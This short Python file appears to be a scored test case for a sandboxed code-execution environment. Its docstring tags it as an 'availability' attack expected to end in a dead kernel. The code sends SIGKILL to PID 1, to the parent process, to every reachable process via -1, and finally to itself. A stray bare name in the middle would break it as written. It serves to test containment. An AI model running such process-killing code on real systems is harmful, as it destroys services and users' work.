# ruff: noqa
# mypy: ignore-errors
"""
kind: availability
points: 6
ko: 보이는 모든 프로세스에 SIGKILL
en: SIGKILL for every process in sight
why: only its own processes are in sight
reasons: [kernel_died]
"""

import os
import signal

VISLEARN_RIGHT


for _pid in (1, os.getppid(), -1):
    try:
        if _pid:
            os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)
